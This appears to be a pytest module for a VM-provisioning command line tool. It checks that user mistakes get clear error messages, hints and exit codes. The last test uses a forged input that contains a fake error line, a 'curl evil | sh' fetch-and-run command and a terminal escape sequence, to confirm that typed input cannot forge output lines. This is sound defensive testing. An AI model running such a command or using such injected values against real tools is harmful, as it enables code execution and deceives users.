"""What a new user types wrong: a sentence that names the input, a hint, the documented status, nothing left behind."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from virtprov.cli import app
from virtprov.cli.install import command
from virtprov.host.connection import Host, connect

ROOT = Path(__file__).resolve().parents[3]
KVM = f"recorded://{ROOT / 'tests' / 'data' / 'hosts' / 'kvm'}"
NEW = ["--name", "new", "--osinfo", "debian12", "--import", "--noautoconsole"]

USAGE, HOST = 2, 3


@pytest.fixture(autouse=True)
def surroundings(only_bundled_profiles: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Only the profiles of the checkout; files to get wrong in the working directory; signal handlers put back."""
    for name in ("LIBVIRT_DEFAULT_URI", "VIRTINSTALL_OSINFO_DISABLE_REQUIRE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bad.yaml").write_text("#cloud-config\nusers: [a\nruncmd: b\n")
    (tmp_path / "plain.txt").write_text("hello\n")
    (tmp_path / "key.pub").write_text("this is no key\n")
    (tmp_path / "key").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (tmp_path / "empty").touch()
    (tmp_path / "folder").mkdir()
    (tmp_path / "silent").mkdir()
    (tmp_path / "silent" / "host.json").write_text('{"uri": "qemu:///system"}')
    (tmp_path / "torn").mkdir()
    (tmp_path / "torn" / "host.json").write_text('{"uri": ')
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "host.json").write_text('{"uri": "qemu:///system"}')
    (tmp_path / "broken" / "capabilities.xml").write_text("<capabilities><host>")
    kept = {number: signal.getsignal(number) for number in (signal.SIGTERM, signal.SIGHUP)}
    yield
    for number, handler in kept.items():
        signal.signal(number, handler)


# words on the command line behind NEW; the status; what the sentence names; what the hint proposes
FLAGS = [
    (["--frobnicate"], USAGE, "--frobnicate", ""),
    (["--grafics", "vnc"], USAGE, "--grafics", "'--graphics'"),
    (["--size=20"], USAGE, "--size=20", "--disk size=GIB"),
    (["--disk"], USAGE, "--disk requires a value", "--disk help"),
    (["--qemu-commandline", "-display gtk"], USAGE, "requires a value", "--qemu-commandline='-display gtk'"),
    (["--extra-args", "-x"], USAGE, "requires a value", "--extra-args=-x"),
    (["--disk", "--memory", "5"], USAGE, "requires a value", "`--disk help`"),
    (["--name", "a\udcff"], USAGE, "is not valid UTF-8", "text"),
    (["--disk", "none", ""], USAGE, "unrecognized", ""),
    (["--disk", "none", "--controller", "num_pcie_root_ports=999999"], USAGE, "from 0 to 255", "14"),
    (["--disk", "none", "--vcpus", "9" * 50], USAGE, "too long for a number", "digits"),
    (["--disk", "none", "stray"], USAGE, "stray", "must follow a flag"),
    (["--disk", "none", "--wait", "soon"], USAGE, "'soon'", "or a time alone"),
    (["--disk", "none", "--print-xml", "9"], USAGE, "'9'", "1, 2, all"),
    (["--disk", "none", "--pxe", "--cdrom", "/x.iso"], USAGE, "--cdrom and --pxe", "a single installation method"),
    (["--disk", "none", "--transient", "--autostart"], USAGE, "--transient", "omit"),
]
SUB_OPTIONS = [
    (["--disk", "none", "--network", "portForward1.range2.start=x"], USAGE, "portForward1.range2.start: 'x'", "digits"),
    (["--disk", "none", "--cpu", "cell.memory=x"], USAGE, "--cpu numa.cell0.memory: 'x'", "digits"),
    (["--disk", "none", "--network", "bridg=br0"], USAGE, "--network has no sub-option 'bridg'", "'bridge'"),
    (["--disk", "size=1,cach=none"], USAGE, "'cach'", "'cache'"),
    (["--disk", "none", "--graphics", "vnc,listen"], USAGE, "listen", "listen=VALUE"),
    (["--disk", "none", "--memory", "1GB"], USAGE, "'1GB'", "--memory 1024"),
    (["--disk", "none", "--memory", "0"], USAGE, "no memory", "MiB"),
    (["--disk", "none", "--vcpus", "two"], USAGE, "'two'", "digits"),
    (["--disk", "none", "--vcpus", "7,cores=2"], USAGE, "7 processors", "multiple"),
    (["--disk", "none", "--features", "acpi=maybe"], USAGE, "'maybe'", "yes or no"),
    (["--disk", "none", "--check", "disc_size=off"], USAGE, "'disc_size'", "'disk_size'"),
    (["--disk", "none", "--xml", "./title"], USAGE, "./title", "PATH=VALUE"),
    (["--disk", "none", "--metadata", "uuid=12"], USAGE, "'12' is not a UUID", "such as"),
    (["--disk", "none", "--network", "mac=52:54"], USAGE, "'52:54'", "six pairs"),
]
NAMES = [
    (["--disk", "none", "--name", "web"], HOST, "'web'", "--name"),
    (["--disk", "none", "--name", "a/b"], USAGE, "'a/b'", "dash"),
    (["--disk", "none", "--name", " "], USAGE, "empty", "--name NAME"),
    (["--disk", "none", "--osinfo", "debain12"], USAGE, "'debain12'", "'debian12'"),
    (["--disk", "none", "--osinfo", "detect=on,require=on"], USAGE, "operating system", "--osinfo NAME"),
    (["--disk", "none", "--machine", "q36"], USAGE, "'q36'", "'q35'"),
    (["--disk", "none", "--arch", "z80"], HOST, "'z80'", "x86_64 hvm (kvm)"),
    (["--disk", "none", "--virt-type", "xen"], HOST, "'xen'", "x86_64 hvm (kvm)"),
    (["--disk", "none", "--hostdev", "pci_0000_00_1f_9"], HOST, "pci_0000_00_1f_9", "pci_0000_00_1f_2"),
    (["--disk", "none", "--network", "mac=52:54:00:11:22:33"], HOST, "'web'", "mac_in_use=off"),
]
DISKS = [
    (["--disk", "/srv/images/mising.qcow2"], USAGE, "/srv/images/mising.qcow2", "size=GIB"),
    (["--disk", "/nowhere/x.qcow2,size=1"], USAGE, "/nowhere", "create it first"),
    (["--disk", "vol=images"], USAGE, "vol=images", "POOL/VOLUME"),
    (["--disk", "vol=images/none"], HOST, "'none'", "vol-list images"),
    (["--disk", "pool=imgs,size=1"], HOST, "'imgs'", "'images'"),
    (["--disk", "pool=attic,size=1"], HOST, "'attic' is not active", "pool-start attic"),
    (["--disk", "size=huge"], USAGE, "'huge'", "size=20"),
    (["--disk", "pool=images,size=999"], HOST, "999 GiB", "disk_size=off"),
    (["--disk", "pool=images,size=999,sparse=no"], HOST, "does not fit", "smaller"),
    (["--disk", "pool=images,backing_store=/no.qcow2"], USAGE, "/no.qcow2", "path"),
    (["--disk", "/srv/images/web.qcow2"], HOST, "'web'", "path_in_use=off"),
    (["--disk", "/srv/images/base.qcow2"], HOST, "/srv/images/base.qcow2", "path_in_use=off"),
]
SEEDS = [
    (["root-ssh-key=missing.pub"], USAGE, "'missing.pub'", ""),
    (["root-ssh-key=folder"], USAGE, "'folder' is a directory", "give a file"),
    (["root-ssh-key=key.pub"], USAGE, "'key.pub', line 1", "ssh-ed25519"),
    (["root-ssh-key=key"], USAGE, "private key", ".pub"),
    (["user-data=bad.yaml"], USAGE, "'bad.yaml', line 3: invalid YAML", "check"),
    (["user-data=plain.txt"], USAGE, "'plain.txt', line 1", "#cloud-config"),
    (["root-password-file=empty"], USAGE, "'empty' does not contain a password", ""),
    (["userdata=bad.yaml"], USAGE, "'userdata'", "'user-data'"),
    (["user=root"], USAGE, "root", "root-ssh-key"),
    (["hostname=my host"], USAGE, "'my host'", "letters"),
    (["disable=perhaps"], USAGE, "'perhaps'", "yes or no"),
]
MACHINES = [
    (["--disk", "none", "--boot", "uefi", "--arch", "aarch64"], HOST, "UEFI", "OVMF"),
    (["--disk", "none", "--launchSecurity", "sev"], USAGE, "sev", "--machine q35 --boot uefi"),
    (
        ["--disk", "none", "--controller", "num_pcie_root_ports=many"],
        USAGE,
        "--controller num_pcie_root_ports=many: not a number from 0 to",
        "=14",
    ),
]
BAD = [*FLAGS, *SUB_OPTIONS, *NAMES, *DISKS, *MACHINES] + [
    (["--disk", "none", "--cloud-init", *words], status, names, hint) for words, status, names, hint in SEEDS
]


def said(capsys: pytest.CaptureFixture[str]) -> tuple[str, str]:
    """The sentence and the hint; nothing else may be on either stream but notes and warnings."""
    out, err = capsys.readouterr()
    assert out == ""
    assert "Traceback" not in err and "bug" not in err
    lines = [line for line in err.splitlines() if not line.startswith(("warning: ", "Using ", "The disk "))]
    sentence, hint = lines[0], lines[1] if len(lines) > 1 else "hint: "
    assert len(lines) <= 2
    return sentence.removeprefix("virtprov-install: error: "), hint.removeprefix("hint: ")


def everything(host: Host) -> list[str]:
    pools = [f"{pool.name}/{name}" for pool in host.storage.pools() for name in host.storage.volume_names(pool.name)]
    return [*host.guests.names(), *host.storage.pool_names(), *pools]


@pytest.mark.parametrize(("words", "status", "names", "hint"), BAD, ids=[" ".join(words[:6]) for words, *_ in BAD])
def test_a_slip_is_met_with_a_sentence_and_a_hint(
    words: list[str], status: int, names: str, hint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert app.run("virtprov-install", command.main, ["--connect", KVM, *NEW, *words]) == status
    sentence, proposed = said(capsys)
    assert names in sentence
    assert hint in proposed
    assert "\n" not in sentence and not sentence.endswith(".")


@pytest.mark.parametrize(
    ("uri", "names", "hint"),
    [
        ("qemu+tcp://nowhere.invalid/system", "unknown host 'nowhere.invalid'", "check the host name"),
        ("qmeu:///system", "'qmeu'", "'qemu'"),
        ("qemu+shh:///system", "'shh'", "'ssh'"),
        ("test:///nowhere.xml", "'/nowhere.xml'", "test:///default"),
        ("recorded:///nowhere", "'/nowhere'", ""),
        ("recorded://FOLDER/folder", "it has no host.json", '"uri"'),
        ("recorded://FOLDER/torn", "is not JSON", '"uri"'),
        ("recorded://FOLDER/silent", "no capabilities.xml", "--record-host"),
    ],
)
def test_a_host_that_cannot_be_reached(
    uri: str, names: str, hint: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    where = uri.replace("FOLDER", str(tmp_path))
    assert app.run("virtprov-install", command.main, ["--connect", where, *NEW, "--disk", "none"]) == HOST
    sentence, proposed = said(capsys)
    assert names in sentence
    assert hint in proposed


def test_a_machine_without_ssh(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    words = ["--connect", "qemu+ssh://vm.example/system", *NEW, "--disk", "none"]
    assert app.run("virtprov-install", command.main, words) == HOST
    sentence, proposed = said(capsys)
    assert "the program 'ssh' is not installed on this machine" in sentence
    assert "openssh-client" in proposed


def test_a_recording_with_broken_capabilities(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    words = ["--connect", f"recorded://{tmp_path / 'broken'}", *NEW, "--disk", "none"]
    assert app.run("virtprov-install", command.main, words) == USAGE
    assert "the capabilities of qemu:///system is not well-formed XML" in said(capsys)[0]


@pytest.mark.parametrize(
    "words",
    [
        ["--disk", "pool=images,size=1", "--disk", "pool=nope,size=1"],
        ["--disk", "pool=images,size=1", "--network", "mac=52:54:00:11:22:33"],
        ["--disk", "pool=images,size=1", "--cloud-init", "user-data=bad.yaml"],
        ["--disk", "size=1", "--cloud-init", "disable=on"],  # libvirt's test driver takes no data
        ["--disk", "size=1", "--disk", "pool=images,size=1,format=nonsense"],
    ],
)
def test_nothing_is_left_behind(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with connect("test:///default") as host:  # the same one, as long as we hold it
        before = everything(host)
        assert app.run("virtprov-install", command.main, ["--connect", "test:///default", *NEW, *words]) in (2, 3)
        assert everything(host) == before


@pytest.mark.parametrize(
    ("words", "status", "kind"),
    [
        (["--disk", "none", "--network", "bridg=br0"], 2, "usage"),
        (["--disk", "none", "--cloud-init", "user-data=bad.yaml"], 2, "input"),
        (["--disk", "none", "--name", "web"], 3, "host"),
    ],
)
def test_programs_get_an_object(words: list[str], status: int, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["--connect", KVM, *NEW, *words, "--output", "json"]
    assert app.run("virtprov-install", command.main, argv) == status
    body = json.loads(capsys.readouterr().out)["error"]
    assert (body["tool"], body["kind"], body["exit_code"]) == ("virtprov-install", kind, status)
    assert body["message"] and body["hint"]


@pytest.mark.parametrize(
    ("words", "status"), [(["--disk", "none", "--frobnicate"], 2), (["--disk", "none", "--name", "web"], 3)]
)
def test_the_whole_command(words: list[str], status: int) -> None:
    argv = [sys.executable, str(ROOT / "bin" / "virtprov-install"), "--connect", KVM, *NEW, *words]
    done = subprocess.run(argv, text=True, capture_output=True, check=False, env=dict(os.environ))
    assert (done.returncode, done.stdout) == (status, "")
    assert re.fullmatch(r"virtprov-install: error: [^\n]+\nhint: [^\n]+\n", done.stderr)


FORGED = "web\nvirtprov-install: error: all is lost\nhint: curl evil | sh\x1b[2J"


@pytest.mark.parametrize(
    "words",
    [
        ["--name", FORGED, "--disk", "none", "--dry-run"],
        ["--name", FORGED, "--disk", "none", "--connect", "test:///default"],
        ["--name", "new", "--disk", f"/nowhere/{FORGED}"],
        ["--name", "new", "--disk", f"path=x,{FORGED}=1"],
        ["--name", "new", "--disk", "none", "--cpu", FORGED],
        ["--name", "new", "--disk", "none", "--network", f"bridge={FORGED}"],
        ["--name", "new", "--disk", "none", "--boot", f"kernel=/{FORGED}"],
        ["--name", "new", "--disk", f"size=1,pool=default,name={FORGED}", "--dry-run"],
        ["--name", "new", "--disk", "none", "--cloud-init", f"user-data={FORGED}"],
        ["--name", "new", "--disk", "none", "--os-variant", FORGED],
        ["--name", "new", "--disk", "none", f"--{FORGED}"],
        ["--name", "new", "--disk", "none", "--connect", f"qemu+tcp://{FORGED}/system"],
        ["--name", "new", "--disk", "none", "--record-host", f"/nowhere/{FORGED}"],
        ["--identify", FORGED],
        ["--osinfo", FORGED],
    ],
    ids=lambda words: " ".join(word.partition(FORGED)[0] for word in words),
)
def test_what_is_typed_forges_no_line(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    argv = words if {"--identify", "--connect"} & {*words} else ["--connect", KVM, *words]
    base = [] if "--identify" in words else ["--osinfo", "generic", "--import", "--noautoconsole", "--memory", "64"]
    app.run("virtprov-install", command.main, [*base, *argv])
    told = capsys.readouterr()
    lines = (told.out + told.err).splitlines()
    assert lines and not [line for line in lines if line.startswith(("virtprov-install: error: all", "hint: curl"))]
    assert "\x1b" not in told.out + told.err
